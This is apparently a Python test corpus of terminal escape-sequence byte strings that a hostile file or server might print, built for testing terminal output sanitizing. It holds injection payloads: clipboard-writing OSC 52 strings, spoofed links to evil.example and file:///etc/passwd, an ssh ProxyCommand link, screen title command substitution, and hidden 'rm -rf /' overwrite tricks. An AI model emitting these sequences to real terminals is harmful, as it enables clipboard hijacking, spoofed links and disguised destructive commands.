"""Byte strings that drive a terminal, from the manuals: ECMA-48, xterm's ctlseqs, iTerm2, kitty, WezTerm,
ConEmu, tmux, screen, VT220/340/525.

Every entry is what a hostile file, server or model could print. The 7-bit and the 8-bit form stand beside
each other where both exist; endings are varied (BEL, ST, raw ST, CAN, SUB, a new ESC, none).
"""

ESC, BEL, ST = b"\x1b", b"\x07", b"\x1b\\"
CSI, OSC, DCS, APC, PM, SOS = ESC + b"[", ESC + b"]", ESC + b"P", ESC + b"_", ESC + b"^", ESC + b"X"
ENDINGS = {
    "bel": BEL,
    "st": ST,
    "raw-st": b"\x9c",
    "utf8-st": b"\xc2\x9c",
    "can": b"\x18",
    "sub": b"\x1a",
    "esc": ESC,
    "csi": CSI + b"m",
    "none": b"",
}
STRINGS = {
    "osc": (OSC, b"0;OWNED"),
    "osc-raw": (b"\x9d", b"2;OWNED"),
    "osc-utf8": (b"\xc2\x9d", b"1;OWNED"),
    "dcs": (DCS, b'$q"p'),
    "dcs-raw": (b"\x90", b"+q544e"),
    "apc": (APC, b"Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA"),
    "apc-utf8": (b"\xc2\x9f", b"OWNED"),
    "pm": (PM, b"OWNED"),
    "sos": (SOS, b"OWNED"),
    "sos-utf8": (b"\xc2\x98", b"OWNED"),
    "title-screen": (ESC + b"k", b"OWNED"),
}

OPERATING_SYSTEM_COMMANDS = [
    OSC + b"52;c;T1dORUQ=" + BEL,
    OSC + b"52;p;?" + ST,
    OSC + b"52;cqs01234567;!" + BEL,
    OSC + b"52;;" + b"QUJD" * 400 + BEL,
    b"\x9d52;c;T1dORUQ=\x9c",
    b"\xc2\x9d52;c;T1dORUQ=\xc2\x9c",
    OSC + b"8;;http://evil.example/" + ST + b"docs.python.org" + OSC + b"8;;" + ST,
    OSC + b"8;id=1;file:///etc/passwd" + BEL + b"open me" + OSC + b"8;;" + BEL,
    OSC + b"8;;ssh://-oProxyCommand=x" + ST + b"never closed",
    OSC + b"4;1;?" + BEL + OSC + b"4;0;rgb:00/00/00" + BEL,
    OSC + b"5;0;?" + ST,
    OSC + b"10;?" + BEL,
    OSC + b"11;?" + ST,
    OSC + b"10;#000000" + BEL + OSC + b"11;#000000" + BEL,
    OSC + b"12;red;?;?" + BEL,
    OSC + b"17;?" + BEL,
    OSC + b"104" + BEL + OSC + b"110" + BEL + OSC + b"112" + BEL,
    OSC + b"7;file://evil.example/tmp" + BEL,
    OSC + b"9;pay now" + BEL,
    OSC + b"9;1;10000" + BEL,
    OSC + b"9;3;tab title" + ST,
    OSC + b"9;4;1;50" + ST,
    OSC + b"9;5" + ST,
    OSC + b"9;6;macro.txt" + ST,
    OSC + b"9;7;calc.exe" + ST,
    OSC + b"9;8;PATH" + ST,
    OSC + b"9;9;C:\\evil" + ST,
    OSC + b"9;12" + ST,
    OSC + b"777;notify;buddy;approve?" + BEL,
    OSC + b"777;precmd" + BEL,
    OSC + b"99;i=1:d=0;Hello" + ST + OSC + b"99;i=1:p=body;World" + ST,
    OSC + b"133;A" + BEL + b"$ " + OSC + b"133;B" + BEL + b"rm" + OSC + b"133;C" + BEL,
    OSC + b"633;E;rm -rf /;nonce" + BEL,
    OSC + b"1337;File=name=YQ==;inline=1:QUJD" + BEL,
    OSC + b"1337;File=name=fi5iYXNocmM=;size=3:QUJD" + BEL,
    OSC + b"1337;RequestUpload=format=tgz" + BEL,
    OSC + b"1337;SetMark" + BEL + OSC + b"1337;StealFocus" + BEL,
    OSC + b"1337;CurrentDir=/etc" + BEL,
    OSC + b"1337;Copy=:T1dORUQ=" + BEL,
    OSC + b"1337;CopyToClipboard=general" + BEL + b"x" + OSC + b"1337;EndCopy" + BEL,
    OSC + b"1337;ReportCellSize" + BEL + OSC + b"1337;ReportVariable=cGF0aA==" + BEL,
    OSC + b"1337;SetUserVar=a=b3du" + BEL,
    OSC + b"1337;Custom=id=x:y" + BEL,
    OSC + b"1337;OpenURL=:aHR0cDovL2V2aWw=" + BEL,
    OSC + b"1337;Block=id=x;attr=start" + BEL,
    OSC + b"1337;SetKeyLabel=F1=rm" + BEL,
    OSC + b"1337;ClearScrollback" + BEL,
    OSC + b"5522;type=read:mime=dGV4dC9wbGFpbg==" + ST,
    OSC + b"5113;ac=send;id=x" + ST,
    OSC + b"22;wait" + ST + OSC + b"22;?__current__" + ST,
    OSC + b"30001" + ST + OSC + b"30101" + ST,
    OSC + b"46;/tmp/OWNED.log" + BEL,
    OSC + b"50;?" + BEL,
    OSC + b"50;#1" + BEL + OSC + b"50;CursorShape=1" + BEL,
    OSC + b'51;["call", "Tapi_x", []]' + BEL,
    OSC + b"60" + BEL + OSC + b"61;allowWindowOps" + BEL,
    OSC + b"66;s=7;HUGE" + BEL,
    OSC + b"176;app" + ST,
    OSC + b"L/dev/null" + ST + OSC + b"lOWNED" + ST + OSC + b"I/x.xpm" + ST,
    OSC + b"P0000000" + OSC + b"R",
    OSC + b"3;?WM_NAME" + BEL + OSC + b"3;WM_NAME=x" + BEL,
    OSC + b"0;a\nrm -rf x\n" + BEL,
    OSC + b"0;line one\r\nline two" + ST,
    OSC + b"0;" + b"A" * 70_000 + BEL,
    OSC,
    OSC + b";" + BEL,
    OSC + b"999999999999999999999;x" + BEL,
    OSC + b"0;a" + OSC + b"0;b" + BEL + b"c" + BEL,
    OSC + b"0;a" + DCS + b"q" + OSC + b"52;c;QQ==" + BEL + ST,
    OSC + "0;ü\u009cnach".encode() + BEL,
]

DEVICE_CONTROL_STRINGS = [
    DCS + b"$qm" + ST,
    DCS + b"$q q" + ST,
    DCS + b"$qr" + ST,
    DCS + b"+q524742;436f" + ST,
    DCS + b"+p524742" + ST,
    DCS + b"1$t" + b"1;1;1;@;@;@;0;0;@;BBBB" + ST,
    DCS + b"2$t9/17/25" + ST,
    DCS + b"q#0;2;0;0;0#0!1000~-" + ST,
    DCS + b'0;0;0q"1;1;10000;10000#0~~~~' + ST,
    b"\x90q#1~\x9c",
    DCS + b"0;1|17/726d202d7266200d" + ST,
    DCS + b"1;1;0!z6563686f" + ST + CSI + b"1*z",
    DCS + b"1;1;1{ @?????" + ST,
    DCS + b"tmux;" + ESC + ESC + b"]52;c;T1dORUQ=" + BEL + ST,
    DCS + b"tmux;\x1b\x1bPtmux;\x1b\x1b\x1b\x1b]0;x\x07\x1b\x1b\\\x1b\\",
    DCS + ESC + b"]52;c;T1dORUQ=" + BEL + ST,
    DCS + b"1000p" + b"%output %1 x\r\n" + ST,
    DCS + b'2000p{"hook": "Prompt"}' + ST,
    DCS + b"=1s" + ST + b"x" + DCS + b"=2s" + ST,
    DCS + b">|x" + ST + DCS + b"!|0" + ST,
    DCS + b'@kitty-cmd{"cmd":"launch","version":[0,14,2]}' + ST,
    DCS + b"@kitty-print|b3du" + ST,
    DCS + b"pS(C0)P[100,100]V[200,200]" + ST,
    DCS + b"never ends",
    DCS,
    b"\x90",
]

APPLICATION_STRINGS = [
    APC + b"Ga=T,f=100,t=f;L2V0Yy9wYXNzd2Q=" + ST,
    APC + b"Ga=T,f=100,t=t;L3RtcC90dHktZ3JhcGhpY3M=" + ST,
    APC + b"Ga=d,d=A" + ST,
    APC + b"Gm=1;" + b"A" * 5000 + ST + APC + b"Gm=0;" + ST,
    APC + b"Ga=q,t=s,s=1,v=1;L3NobQ==" + BEL,
    b"\x9fGa=d\x9c",
    b"\xc2\x9fGa=d\xc2\x9c",
    PM + b"tmux passes this" + ST,
    b"\x9ehidden\x9c",
    SOS + b"anything" + ESC + b"X nested" + ST,
    b"\x98start of string\x9c",
    ESC + b"kwindow name" + ST,
    ESC + b"k`touch OWNED`" + ESC + b"\\",
    ESC + b"!screen message" + ST,
    ESC + b"_tmux title" + ST,
]

CONTROL_SEQUENCES = [
    CSI + b"c",
    CSI + b">c",
    CSI + b"=c",
    CSI + b"0c" + b"\x9bc",
    ESC + b"Z",
    CSI + b"5n",
    CSI + b"6n",
    CSI + b"?6n",
    CSI + b"?15n" + CSI + b"?25n" + CSI + b"?26n" + CSI + b"?53n",
    CSI + b"?996n",
    CSI + b"x" + CSI + b"1x",
    CSI + b">q",
    CSI + b">0q",
    CSI + b"?u" + CSI + b">1u" + CSI + b"=31;1u" + CSI + b"<5u",
    CSI + b"?1$p" + CSI + b"4$p",
    CSI + b"1$w" + CSI + b"2$w" + CSI + b"1;1$u",
    CSI + b"1;1;1;1;1;1*y",
    CSI + b"?4m" + CSI + b">4;2m",
    CSI + b"#{" + CSI + b"#}" + CSI + b"#P" + CSI + b"#R",
    CSI + b"1;2;3#|",
    CSI + b"21t",
    CSI + b"20t",
    CSI + b"11t" + CSI + b"13t" + CSI + b"14t" + CSI + b"15t" + CSI + b"16t" + CSI + b"18t" + CSI + b"19t",
    CSI + b"22;0t" + CSI + b"23;0t",
    CSI + b"1t" + CSI + b"2t" + CSI + b"5t" + CSI + b"6t" + CSI + b"7t",
    CSI + b"3;0;0t" + CSI + b"4;1;1t" + CSI + b"8;1;1t" + CSI + b"9;1t" + CSI + b"10;1t" + CSI + b"24t",
    CSI + b">2;0t" + CSI + b">0T",
    b"\x9b21t",
    b"\xc2\x9b21t",
    CSI + b"?1049h",
    CSI + b"?47h" + CSI + b"?1047h" + CSI + b"?1048h",
    CSI
    + b"?1000h"
    + CSI
    + b"?1002h"
    + CSI
    + b"?1003h"
    + CSI
    + b"?1005h"
    + CSI
    + b"?1006h"
    + CSI
    + b"?1015h"
    + CSI
    + b"?1016h",
    CSI + b"?1004h",
    CSI + b"?2004l",
    CSI + b"?2026h",
    CSI + b"?2027h" + CSI + b"?2031h" + CSI + b"?2048h",
    CSI + b"?25l",
    CSI + b"?7l" + b"long" * 100,
    CSI + b"?5h" + CSI + b"?5l",
    CSI + b"?3h" + CSI + b"?40h",
    CSI + b"?6h" + CSI + b"3;4r" + CSI + b"s" + CSI + b"5;6s",
    CSI + b"?69h" + CSI + b"2;3s",
    CSI + b"?1;9;66;67;95;1034;1035;1036;1039h",
    CSI + b"2h" + CSI + b"4h" + CSI + b"12l" + CSI + b"20h",
    CSI + b"?1005;1006;9001h",
    CSI + b"!p",
    CSI + b'61"p' + CSI + b'62;1"p' + CSI + b'1"q',
    CSI + b"2J" + CSI + b"3J" + CSI + b"H",
    CSI + b"22J" + CSI + b"?2J" + CSI + b"?2K",
    CSI + b"1A" + CSI + b"2K" + b"rm -rf build",
    CSI + b"999D" + b"overwritten",
    CSI + b"5;5H" + CSI + b"5;5f" + CSI + b"5d" + CSI + b"5G" + CSI + b"5`" + CSI + b"5a" + CSI + b"5e",
    CSI + b"10E" + CSI + b"10F" + CSI + b"10I" + CSI + b"10Z",
    CSI
    + b"5@"
    + CSI
    + b"5P"
    + CSI
    + b"5X"
    + CSI
    + b"5L"
    + CSI
    + b"5M"
    + CSI
    + b"5S"
    + CSI
    + b"5T"
    + CSI
    + b"5^",
    CSI + b"100000000b",
    CSI + b"x\x08\x08" + CSI + b"2147483647b",
    CSI + b"0;30;40m" + b"invisible" + CSI + b"8mhidden" + CSI + b"m",
    CSI + b"38;2;0;0;0;48;2;0;0;0m" + b"black",
    CSI + b"4:3;58:2::255:0:0m" + b"wavy",
    CSI + b"38:5:0m" + CSI + b"5;6;7;9;53;73m",
    CSI + b"0 q" + CSI + b"2 q" + CSI + b"5 @" + CSI + b"5 A" + CSI + b"1 t" + CSI + b"1 u",
    CSI + b"0g" + CSI + b"3g" + CSI + b"?5W" + CSI + b"2W",
    CSI + b"4i" + CSI + b"5i" + b"printed" + CSI + b"?5i" + CSI + b"?4i" + CSI + b"0i",
    CSI + b"1q" + CSI + b"0q" + CSI + b"2y" + CSI + b"2;1y",
    CSI
    + b"1;1;5;5;7$r"
    + CSI
    + b"1;1;5;5;7$t"
    + CSI
    + b"65;1;1;9;9$x"
    + CSI
    + b"1;1;9;9$z"
    + CSI
    + b"1;1;9;9${",
    CSI
    + b"1;1;5;5;1;2;2;1$v"
    + CSI
    + b"2*x"
    + CSI
    + b"1'z"
    + CSI
    + b"1'{"
    + CSI
    + b"'|"
    + CSI
    + b"1;1;1;1'w",
    CSI + b"3'}" + CSI + b"3'~" + CSI + b"1$}" + CSI + b"2$~" + CSI + b"5$|" + CSI + b"5*|" + CSI + b"3,~",
    CSI + b"1;" * 5000 + b"m",
    CSI + b"9" * 5000 + b"C",
    CSI + b"1\x0a2\x0d3\x0bm",
    CSI + b"3\x1b[1mx",
    CSI + b"3\x18x" + CSI + b"3\x1ax",
    CSI + b"3\x7f1m",
    CSI + b"3\x001m",
    CSI + b" !\"#$%&'()*+,-./m",
    CSI + b"<=>?0m",
    CSI + b"0?25l",
    CSI + b"\xc3\xa9m",
    CSI + b"\xffm",
    CSI + b"\xc2\x9b1m",
    CSI,
    CSI + b"38;5;",
    b"\x9b",
    b"\xc2\x9b",
    b"\x9b2J\x9b1;1H",
    "\u009b2J\u009b1;1Hfake prompt".encode(),
]

ESCAPE_SEQUENCES = [
    ESC + b"c",
    ESC + b"7" + b"moved" + ESC + b"8",
    ESC + b"D" + ESC + b"E" + ESC + b"M" + ESC + b"H",
    b"\x84\x85\x8d\x88",
    "\u0084\u0085\u008d\u0088".encode(),
    ESC + b"6" + ESC + b"9",
    ESC + b"=" + ESC + b">",
    ESC + b"F" + ESC + b"l" + ESC + b"m",
    ESC + b"N" + b"x" + ESC + b"O" + b"y",
    b"\x8ex\x8fy",
    ESC + b"n" + ESC + b"o" + ESC + b"|" + ESC + b"}" + ESC + b"~",
    ESC + b"(0" + b"lqqqk" + ESC + b"(B",
    ESC + b")0" + b"\x0elqqqk\x0f",
    ESC + b"(%5" + ESC + b"*>" + ESC + b"+<" + ESC + b"-A" + ESC + b".A" + ESC + b"/A",
    ESC + b"%@" + b"\x9b31m" + ESC + b"%G",
    ESC + b"%/G" + ESC + b"%/I",
    ESC + b" F" + ESC + b" G" + b"\x9b5n",
    ESC + b" L" + ESC + b" M" + ESC + b" N",
    ESC + b"#3" + ESC + b"#4" + ESC + b"#5" + ESC + b"#6",
    ESC + b"#8",
    ESC + b"V" + b"protected" + ESC + b"W",
    ESC + b"a" + ESC + b"b" + ESC + b"d" + ESC + b"`",
    ESC + b"g",
    ESC + b"12" + ESC + b"0",
    ESC + b"Y!!" + ESC + b"A" + ESC + b"I" + ESC + b"J" + ESC + b"K",
    ESC + b"<" + ESC + b"Z",
    ESC * 1000,
    ESC + ESC + b"[2J",
    ESC + ESC + ESC + b"]0;x" + BEL,
    ESC,
    b"ends with " + ESC,
    ESC + b"\n[2J",
    ESC + b"\r\n]0;x" + BEL,
    ESC + b"\x00[2J",
    ESC + b"\x7f[2J",
    ESC + b"\x18[2J",
    ESC + "[\u200b2J".encode(),
    ESC + "\u200d[2J".encode(),
    ESC + "\ufeff]0;x".encode() + BEL,
    ESC + "é[2J".encode(),
    ESC + b"\xff[2J",
    ESC + b"\xc2\x9b2J",
    ESC + b"\x9b2J",
    ESC + b"!" * 2000 + b"p",
]

CONTROLS = [
    b"safe\rrm -rf /",
    b"safe\r\n\rrm -rf /",
    b"rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls      ",
    b"\x08" * 300 + b"overwrite",
    b"one\x0btwo\x0cthree",
    b"\x0c",
    b"\x07" * 500,
    b"\x05",
    b"\x0e\x0f\x0e",
    b"\x11\x13",
    b"\x10\x04\x1c\x1d\x1e\x1f",
    b"\x00" * 100 + b"x",
    b"a\x7fb\x7f",
    b"tab\ttab\t\t\t" + b"\t" * 300 + b"end",
    b"\x18\x1a",
    bytes(range(0x20)),
    bytes(range(0x7F, 0xA0)),
    "".join(map(chr, range(0x7F, 0xA0))).encode(),
    b"\n" * 3000 + b"far away",
    b"\r\n" * 50 + b"\r" * 50,
    "next\u0085line\u2028sep\u2029par".encode(),
]

ALL_BYTES = [
    *OPERATING_SYSTEM_COMMANDS,
    *DEVICE_CONTROL_STRINGS,
    *APPLICATION_STRINGS,
    *CONTROL_SEQUENCES,
    *ESCAPE_SEQUENCES,
    *CONTROLS,
]
EVERY_ENDING = [
    opening + body + ending + b" tail" for opening, body in STRINGS.values() for ending in ENDINGS.values()
]
